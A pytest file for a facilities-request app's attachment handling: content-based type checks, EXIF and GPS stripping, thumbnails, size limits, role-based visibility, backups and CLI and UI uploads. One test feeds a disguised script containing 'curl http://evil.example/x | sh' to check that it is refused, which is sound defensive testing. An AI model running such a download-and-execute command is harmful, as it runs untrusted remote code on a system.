"""Photos and files on requests: checked by content, kept by checksum without
their location, shown only to those who may see them, sent with an action
in its one unit of work, backed up and restored, and on the command line."""

from __future__ import annotations

import io
import sys
import json
from pathlib import Path

import pytest
from PIL import Image

from conftest import AMIRA, GRACE, HELEN, LEAK, NOAH, PRIYA, SAM, TOM
from ownit import backup, service
from ownit.desk import Desk
from ownit.errors import ConfigError, NotFound, PermissionDenied, ValidationError
from ownit.files import checksum, folder_for
from ownit.service import Upload

GPS = 0x8825  # the EXIF tag of the GPS block
ORIENTATION = 0x0112
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def photo(width: int = 640, height: int = 480, *, gps: bool = False, turned: bool = False) -> bytes:
    """A JPEG as a phone makes one: with where it was taken, and turned by its EXIF orientation."""
    exif = Image.Exif()
    if gps:
        exif[GPS] = {1: "N", 2: (53.0, 48.0, 1.5), 3: "W", 4: (1.0, 32.0, 55.0)}
    if turned:
        exif[ORIENTATION] = 6  # shown turned a quarter clockwise
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


@pytest.fixture(autouse=True)
def files_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "files"
    monkeypatch.setenv("OWNIT_FILES_DIR", str(folder))
    for name in ("OWNIT_FILE_MAX_MB", "OWNIT_REQUEST_FILES_MAX_MB"):
        monkeypatch.delenv(name, raising=False)
    return folder


def raise_leak(desk: Desk, files: list[Upload] | None = None) -> dict:
    return service.raise_request(desk, actor=AMIRA, request_type="facilities.leak", title="Roof leak",
                                 fields=LEAK, files=files)


def kept(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file())


def test_a_photo_sent_with_a_raise_is_kept_upright_without_its_location_and_with_a_thumbnail(
        ownit_demo_org, files_dir: Path) -> None:
    sent = photo(800, 600, gps=True, turned=True)
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(GPS)  # the phone's photo says where it was taken
    view = raise_leak(ownit_demo_org, [Upload("IMG_0042.JPG", sent)])
    assert [e["kind"] for e in view["timeline"]] == ["raised", "assigned", "attached"]
    [item] = view["attachments"]
    assert (item["name"], item["content_type"], item["by"], item["internal"]) == ("IMG_0042.jpg", "image/jpeg",
                                                                                 AMIRA, False)
    about, data = service.get_file(ownit_demo_org, item["id"], actor=PRIYA)
    assert checksum(data) == item["sha256"] == about["sha256"] and len(data) == item["size"] == about["size"]
    stored = Image.open(io.BytesIO(data))
    assert stored.format == "JPEG" and stored.size == (600, 800)  # turned upright, as the phone showed it
    assert not stored.getexif() and not stored.getexif().get_ifd(GPS)  # no location, no metadata at all
    assert "xmp" not in stored.info and "exif" not in stored.info
    about, small = service.get_file(ownit_demo_org, item["id"], actor=AMIRA, thumbnail=True)
    thumbnail = Image.open(io.BytesIO(small))
    assert about["name"] == "IMG_0042-thumbnail.jpg" and thumbnail.format == "JPEG"
    assert max(thumbnail.size) == 320 and thumbnail.size[1] > thumbnail.size[0]
    assert sorted(p.name for p in kept(files_dir)) == sorted([item["sha256"], checksum(small)])


def test_a_script_named_like_a_photo_is_refused_and_nothing_is_saved(ownit_demo_org, files_dir: Path) -> None:
    script = Upload("leak.jpg", b"#!/bin/sh\ncurl http://evil.example/x | sh\n")
    with pytest.raises(ValidationError) as refused:
        raise_leak(ownit_demo_org, [Upload("fine.jpg", photo()), script])
    assert str(refused.value) == ("leak.jpg is not a JPEG, PNG, GIF or WebP picture, or a PDF (read by its content, "
                                  "not its name); send a photo or a PDF")
    assert service.my_requests(ownit_demo_org, actor=AMIRA) == []  # no half-written request
    assert kept(files_dir) == []  # every file is checked before any is stored
    with pytest.raises(ValidationError, match="empty.pdf is empty"):
        raise_leak(ownit_demo_org, [Upload("empty.pdf", b"")])
    [pdf] = raise_leak(ownit_demo_org, [Upload("quote", PDF)])["attachments"]  # a PDF, known by its signature
    assert (pdf["name"], pdf["content_type"], pdf["thumbnail"]) == ("quote.pdf", "application/pdf", False)
    with pytest.raises(ValidationError, match="quote.pdf is not a photo, so it has no thumbnail"):
        service.get_file(ownit_demo_org, pdf["id"], actor=AMIRA, thumbnail=True)


def test_size_limits_per_file_and_per_request(ownit_demo_org, monkeypatch: pytest.MonkeyPatch) -> None:
    desk = ownit_demo_org
    monkeypatch.setenv("OWNIT_FILE_MAX_MB", "0.05")  # about 52 KB
    big = PDF + b"0" * 60_000
    with pytest.raises(ValidationError) as refused:
        raise_leak(desk, [Upload("survey.pdf", big)])
    assert str(refused.value) == ("survey.pdf is 59 KB; a file may be at most 51 KB (OWNIT_FILE_MAX_MB); "
                                  "send a smaller one")
    assert service.my_requests(desk, actor=AMIRA) == []
    monkeypatch.setenv("OWNIT_FILE_MAX_MB", "1")
    monkeypatch.setenv("OWNIT_REQUEST_FILES_MAX_MB", "0.1")  # about 102 KB for all of one request's files
    part = PDF + b"1" * 40_000
    ref = raise_leak(desk, [Upload("one.pdf", part)])["ref"]
    service.attach(desk, ref, actor=AMIRA, files=[Upload("two.pdf", part + b"2")])
    service.contact(desk, ref, actor=PRIYA, note="Coming round")
    before = service.show(desk, ref, actor=AMIRA)
    with pytest.raises(ValidationError, match=rf"^{ref}'s files with these come to 117 KB; a request may hold at "
                                              r"most 102 KB of files \(OWNIT_REQUEST_FILES_MAX_MB\); send fewer"):
        service.check_in(desk, ref, actor=PRIYA, note="Roofer booked", files=[Upload("three.pdf", part + b"3")])
    after = service.show(desk, ref, actor=AMIRA)
    assert after["timeline"] == before["timeline"] and after["version"] == before["version"]  # no check-in either
    with pytest.raises(ValidationError, match="^these files come to 117 KB"):
        raise_leak(desk, [Upload(f"{n}.pdf", part + bytes([n])) for n in range(3)])
    monkeypatch.setenv("OWNIT_FILE_MAX_MB", "lots")
    with pytest.raises(ConfigError, match="OWNIT_FILE_MAX_MB='lots' is not a size; give megabytes, like 10"):
        service.attach(desk, ref, actor=AMIRA, files=[Upload("x.pdf", PDF)])


def test_who_may_see_each_file(ownit_demo_org) -> None:
    desk = ownit_demo_org
    ref = raise_leak(desk, [Upload("leak.jpg", photo())])["ref"]
    service.watch(desk, ref, actor=AMIRA, add=GRACE)
    internal = service.attach(desk, ref, actor=SAM, files=[Upload("contractor-quote.pdf", PDF)], internal=True,
                              note="Quote from the roofer")
    assert [e["kind"] for e in internal["timeline"][-2:]] == ["note", "attached"]
    public, private = (a["id"] for a in internal["attachments"])

    def names(actor: str) -> list[str]:
        return [f["name"] for f in service.files(desk, ref, actor=actor)]

    for staff in (PRIYA, SAM, HELEN):  # the owner, a team member, the lead
        assert names(staff) == ["leak.jpg", "contractor-quote.pdf"]
        assert service.get_file(desk, private, actor=staff)[1] == PDF
    for outside in (AMIRA, GRACE, NOAH):  # the requester, a watcher, a colleague of the same store
        assert names(outside) == ["leak.jpg"]
        seen = service.show(desk, ref, actor=outside)
        assert [a["name"] for a in seen["attachments"]] == ["leak.jpg"]
        assert [e["kind"] for e in seen["timeline"]].count("attached") == 1  # not the internal one
        service.get_file(desk, public, actor=outside)
        with pytest.raises(NotFound, match=f"^no file {private}; list a request's files with 'ownit files REF'$"):
            service.get_file(desk, private, actor=outside)
    with pytest.raises(NotFound, match="no request"):  # another store's manager: the request does not exist
        service.files(desk, ref, actor=TOM)
    for attachment in (public, private, 999):
        with pytest.raises(NotFound, match=f"^no file {attachment};"):
            service.get_file(desk, attachment, actor=TOM)
    with pytest.raises(PermissionDenied, match="only the requester or Facilities North can add notes"):
        service.attach(desk, ref, actor=GRACE, files=[Upload("mine.jpg", photo())])  # a watcher acts for nobody
    with pytest.raises(PermissionDenied, match="only the team can add internal notes"):
        service.attach(desk, ref, actor=AMIRA, files=[Upload("x.jpg", photo())], internal=True)
    with pytest.raises(ValidationError, match="no file given; attach a photo or a PDF"):
        service.attach(desk, ref, actor=AMIRA, files=[])
    sent = [Upload("again.pdf", PDF)]
    first = service.attach(desk, ref, actor=AMIRA, files=sent, key="form-1")
    again = service.attach(desk, ref, actor=AMIRA, files=sent, key="form-1")  # a double click: attached once
    assert again["repeated"] and again["attachments"] == first["attachments"]
    assert [a["name"] for a in again["attachments"]].count("again.pdf") == 1


def test_a_check_in_with_a_photo_is_one_action(ownit_demo_org) -> None:
    desk = ownit_demo_org
    ref = raise_leak(desk)["ref"]
    service.contact(desk, ref, actor=PRIYA, note="Coming round")
    version = service.show(desk, ref, actor=PRIYA)["version"]
    view = service.check_in(desk, ref, actor=PRIYA, note="Patched; here is the roof",
                            files=[Upload("roof.png", photo(100, 100))])  # a JPEG named .png: kept as what it is
    assert view["version"] == version + 1  # one change of the request
    checkin, attached = view["timeline"][-2:]
    assert (checkin["kind"], checkin["note"]) == ("checkin", "Patched; here is the roof")
    assert (attached["kind"], attached["at"], attached["actor"]) == ("attached", checkin["at"], PRIYA)
    assert attached["note"].startswith("roof.jpg (") and attached["data"]["content_type"] == "image/jpeg"
    assert [a["name"] for a in service.show(desk, ref, actor=AMIRA)["attachments"]] == ["roof.jpg"]
    with pytest.raises(ValidationError, match="not a JPEG"):
        service.check_in(desk, ref, actor=PRIYA, note="Again", files=[Upload("x.jpg", b"GIF89a no")])
    assert service.show(desk, ref, actor=PRIYA)["version"] == version + 1  # refused: no check-in either


def test_the_requester_answers_with_a_photo_alone(ownit_demo_org) -> None:
    desk = ownit_demo_org
    ref = raise_leak(desk)["ref"]
    service.contact(desk, ref, actor=PRIYA, note="Hello")
    service.wait_on_requester(desk, ref, actor=PRIYA, note="Send a photo of the boiler panel display")
    view = service.resume(desk, ref, actor=AMIRA, note=None, files=[Upload("panel.jpg", photo())])
    assert view["status"] == "open" and [e["kind"] for e in view["timeline"][-2:]] == ["resumed", "attached"]
    with pytest.raises(ValidationError, match="the note is empty"):
        service.add_note(desk, ref, actor=AMIRA, note="")  # a note alone still needs words
    noted = service.add_note(desk, ref, actor=AMIRA, note=None, files=[Upload("more.pdf", PDF)])
    assert [e["kind"] for e in noted["timeline"][-1:]] == ["attached"]
    told = [n for n in service.inbox(desk, actor=PRIYA) if n.get("ref") == ref]
    assert any("attached more.pdf" in json.dumps(n) for n in told)


def test_the_files_folder_is_beside_the_sqlite_database_by_default(monkeypatch: pytest.MonkeyPatch,
                                                                  tmp_path: Path) -> None:
    monkeypatch.delenv("OWNIT_FILES_DIR")
    assert folder_for(f"sqlite:///{tmp_path}/data/ownit.db") == tmp_path / "data" / "ownit-files"
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "share"))
    assert folder_for("postgresql://postgres@db/ownit") == tmp_path / "share" / "ownit" / "files"
    monkeypatch.setenv("OWNIT_FILES_DIR", str(tmp_path / "elsewhere"))
    assert folder_for("postgresql://postgres@db/ownit") == tmp_path / "elsewhere"


def test_backup_and_restore_carry_the_files(ownit_demo_org, ownit_database_url: str, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    if not ownit_database_url.startswith("sqlite"):
        pytest.skip("ownit backup is for the SQLite default (PostgreSQL has pg_dump; the files folder is copied "
                    "as it is)")
    monkeypatch.delenv("OWNIT_FILES_DIR")  # the default: beside each database
    view = raise_leak(ownit_demo_org, [Upload("leak.jpg", photo()), Upload("quote.pdf", PDF)])
    copy = tmp_path / "copies" / "monday.db"
    copy.parent.mkdir()
    made = backup.backup(ownit_demo_org.url, copy)
    assert (made["files"], made["files_missing"]) == (3, 0)  # the photo, its thumbnail, the PDF
    assert len(kept(tmp_path / "copies" / "monday-files")) == 3
    (tmp_path / "restored").mkdir()
    target = f"sqlite:///{tmp_path / 'restored' / 'ownit.db'}"
    restored = backup.restore(target, copy)
    assert (restored["files"], restored["files_missing"]) == (3, 0)
    desk = Desk.open(target, clock=ownit_demo_org.clock)
    photo_id, pdf_id = (a["id"] for a in service.show(desk, view["ref"], actor=AMIRA)["attachments"])
    assert service.get_file(desk, pdf_id, actor=AMIRA)[1] == PDF
    assert Image.open(io.BytesIO(service.get_file(desk, photo_id, actor=PRIYA, thumbnail=True)[1])).format == "JPEG"
    assert (tmp_path / "restored" / "ownit-files").is_dir()


def test_the_command_line_attaches_lists_and_gets_files(ownit_demo_org, ownit_database_url: str,
                                                       tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from test_cli import Cli

    cli = Cli(ownit_database_url)
    ref = cli.raise_leak()["ref"]
    sent = tmp_path / "sent"
    sent.mkdir()
    (sent / "leak.jpg").write_bytes(photo(gps=True))
    (sent / "quote.pdf").write_bytes(PDF)
    (sent / "evil.jpg").write_bytes(b"MZ\x90\x00 not a picture")
    said = cli.ok("attach", ref, str(sent / "leak.jpg"), "--as", AMIRA, "--note", "The ceiling now").stdout
    assert said.startswith(f"{ref}: 1 file attached (status open")
    view = cli.json("attach", ref, str(sent / "quote.pdf"), "--internal", "--as", PRIYA)
    assert [a["internal"] for a in view["attachments"]] == [False, True]
    assert cli.fails("attach", ref, str(sent / "evil.jpg"), "--as", AMIRA).startswith(
        "evil.jpg is not a JPEG, PNG, GIF or WebP picture, or a PDF")
    assert cli.fails("attach", ref, str(sent / "missing.jpg"), "--as", AMIRA) == (
        f"cannot read {sent / 'missing.jpg'}: No such file or directory; check the path")
    assert [f["name"] for f in cli.json("files", ref, "--as", AMIRA)] == ["leak.jpg"]
    listed = cli.json("files", ref, "--as", PRIYA)
    assert [f["name"] for f in listed] == ["leak.jpg", "quote.pdf"]
    lines = cli.ok("files", ref, "--as", PRIYA).stdout.splitlines()
    assert len(lines) == 2 and "quote.pdf  application/pdf  1 KB  Priya Shah" in lines[1] and lines[1].endswith(
        "internal")
    monkeypatch.chdir(tmp_path)
    got = cli.ok("file", "get", str(listed[0]["id"]), "--as", AMIRA, "--out", "saved.jpg").stdout
    assert got.startswith(f"{ref}: saved leak.jpg (") and got.rstrip().endswith("to saved.jpg")
    saved = Image.open(tmp_path / "saved.jpg")
    assert saved.size == (640, 480) and not saved.getexif().get_ifd(GPS)
    assert cli.fails("file", "get", str(listed[1]["id"]), "--as", AMIRA) == (
        f"no file {listed[1]['id']}; list a request's files with 'ownit files REF'")
    assert cli.fails("file", "get", str(listed[0]["id"]), "--as", AMIRA, "--out", "saved.jpg") == (
        "saved.jpg exists already; pass --out PATH to save it elsewhere")
    cli.ok("file", "get", str(listed[1]["id"]), "--as", PRIYA)  # by default its own name, here
    assert (tmp_path / "quote.pdf").read_bytes() == PDF
    assert cli.fails("files", ref, "--as", TOM).startswith(f"no request '{ref}'")


def test_the_forms_take_photos_and_the_card_shows_them(ownit_demo_org, monkeypatch: pytest.MonkeyPatch) -> None:
    """Through Streamlit's AppTest: a leak raised with a picked photo and one from the camera; the card
    shows their thumbnails and downloads; the owner's check-in form takes photos too."""
    from streamlit.testing.v1 import AppTest

    from test_ui import APP, owner_tab

    monkeypatch.setenv("OWNIT_DATABASE_URL", ownit_demo_org.url)
    monkeypatch.setenv("OWNIT_UI_DEMO", "1")
    monkeypatch.setenv("OWNIT_NOW", ownit_demo_org.now().isoformat())
    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])  # AppTest leaves the app there

    def page(user: str, path: str) -> AppTest:
        at = AppTest.from_file(APP, default_timeout=30)
        at.session_state["user"] = user
        at.run()
        at.switch_page(path).run()
        assert not at.exception
        return at

    at = page(AMIRA, "views/raise_request.py")
    [picker], [camera] = at.get("file_uploader"), at.get("camera_input")
    assert picker.label == "Photos or PDFs (optional)" and camera.label == "Take a photo"
    assert "Take a photo" in [e.label for e in at.expander]
    at.text_input[0].input("Water through the stockroom ceiling")
    {t.label: t for t in at.text_input}["Where is the water coming in?"].input("stockroom")
    [r for r in at.radio if r.label.startswith("Is water near")][0].set_value("no")
    picker.set_value([("ceiling.jpg", photo(gps=True), "image/jpeg"), ("quote.pdf", PDF, "application/pdf")])
    camera.set_value(("shot.jpg", photo(320, 240), "image/jpeg"))
    at.button[0].click().run()
    assert not at.exception and at.success
    [mine] = service.my_requests(ownit_demo_org, actor=AMIRA)
    assert [a["name"] for a in mine["attachments"]] == ["ceiling.jpg", "quote.pdf", "photo.jpg"]
    owner = mine["owner"]["email"]
    at = page(owner, "views/team.py")
    assert "Photos and files (3)" in [e.label for e in at.expander]
    assert len(at.get("image")) == 2  # the photos' thumbnails; the PDF is a download only
    assert [b.label for b in at.get("download_button")] == ["ceiling\\.jpg \\(5 KB\\)", "quote\\.pdf \\(1 KB\\)",
                                                           "photo\\.jpg \\(2 KB\\)"]
    service.contact(ownit_demo_org, mine["ref"], actor=owner, note="On my way")
    at = page(owner, "views/team.py")
    ref = mine["ref"]
    checkin = f"checkin-{ref}~{at.session_state[f'armed-checkin-{ref}']}"
    assert f"{checkin}:files" in {u.key for u in at.get("file_uploader")}
    owner_tab(at, ref, "Note")  # the owner's note takes files too
    note = f"note-{ref}~{at.session_state[f'armed-note-{ref}']}"
    assert f"{note}:files" in {u.key for u in at.get("file_uploader")}
    owner_tab(at, ref, "Check in")
    next(u for u in at.get("file_uploader") if u.key == f"{checkin}:files").set_value(
        ("fixed.jpg", photo(), "image/jpeg"))
    next(t for t in at.text_area if t.key == f"{checkin}:note").input("Patched the roof; photo attached")
    next(b for b in at.button if b.label == "Check in").click().run()
    assert not at.exception and not at.error
    timeline = service.show(ownit_demo_org, ref, actor=AMIRA)["timeline"]
    assert [(e["kind"], e["note"][:9]) for e in timeline[-2:]] == [("checkin", "Patched t"), ("attached", "fixed.jpg")]
